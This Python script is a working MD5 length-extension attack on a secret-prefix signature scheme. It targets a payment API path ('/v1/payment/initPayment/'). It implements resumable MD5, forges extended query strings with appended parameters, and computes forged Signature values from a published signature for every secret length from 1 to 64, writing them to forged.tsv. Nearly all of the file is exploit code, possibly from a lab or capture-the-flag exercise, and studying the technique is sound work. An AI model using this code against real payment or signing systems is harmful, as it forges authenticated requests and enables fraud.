#!/usr/bin/env python3
"""Forged length extensions of signatures, with an MD5 that can start from a known digest.

Writes forged.tsv: secret length, secret, whether it is the published signature (K1), the forged query
(escaped), the forged value of Signature. `-` stands for a secret that the forger does not know.
"""

import base64
import hashlib
import math
import pathlib
import struct
import urllib.parse

SHIFTS = [7, 12, 17, 22] * 4 + [5, 9, 14, 20] * 4 + [4, 11, 16, 23] * 4 + [6, 10, 15, 21] * 4
SINES = [int(abs(math.sin(step + 1)) * 2**32) & 0xFFFFFFFF for step in range(64)]


def block(state, chunk):
    words = struct.unpack("<16I", chunk)
    a, b, c, d = state
    for step in range(64):
        if step < 16:
            mixed, word = (b & c) | (~b & d), step
        elif step < 32:
            mixed, word = (d & b) | (~d & c), (5 * step + 1) % 16
        elif step < 48:
            mixed, word = b ^ c ^ d, (3 * step + 5) % 16
        else:
            mixed, word = c ^ (b | ~d), (7 * step) % 16
        total = (a + (mixed & 0xFFFFFFFF) + SINES[step] + words[word]) & 0xFFFFFFFF
        turned = (total << SHIFTS[step] | total >> (32 - SHIFTS[step])) & 0xFFFFFFFF
        a, d, c, b = d, c, b, (b + turned) & 0xFFFFFFFF
    return [(old + new) & 0xFFFFFFFF for old, new in zip(state, (a, b, c, d))]


def padding(length):
    return b"\x80" + b"\x00" * ((55 - length) % 64) + struct.pack("<Q", length * 8)


def extended(digest, hashed, suffix):
    """The digest of what `digest` was taken of (`hashed` bytes), its padding, and `suffix`."""
    state = list(struct.unpack("<4I", digest))
    before = hashed + len(padding(hashed))
    rest = suffix + padding(before + len(suffix))
    for at in range(0, len(rest), 64):
        state = block(state, rest[at : at + 64])
    return struct.pack("<4I", *state)


PATH = b"/v1/payment/initPayment/"
QUERY = b"mcc=228&mnc=01&pid=12000&userId=123456789"
SUFFIX = b"&zz=forged"
K1 = base64.b64decode("WETDyNQLx0+8BJ16vDgiVg==")

signed = PATH + b"?" + QUERY
lines = []
for length in range(1, 65):
    glue = padding(length + len(signed))
    query = (QUERY + urllib.parse.quote_from_bytes(glue, safe="").encode() + SUFFIX).decode()
    secret = (b"s3cret-of-some-length-" * 3)[:length]
    tag = extended(hashlib.md5(secret + signed).digest(), length + len(signed), SUFFIX)
    assert tag == hashlib.md5(secret + signed + glue + SUFFIX).digest()
    value = base64.b64encode(tag).decode()
    lines.append(f"{length}\t{secret.decode()}\town\t{query}\tapp1:{value}")
    tag = extended(K1, length + len(signed), SUFFIX)
    if length == 16:
        assert tag == hashlib.md5(b"this.is.a.secret" + signed + glue + SUFFIX).digest()
    value = base64.b64encode(tag).decode()
    lines.append(f"{length}\t-\tpublished\t{query}\tapp1:{value}")
path = pathlib.Path(__file__).with_name("forged.tsv")
path.write_text("\n".join(lines) + "\n")
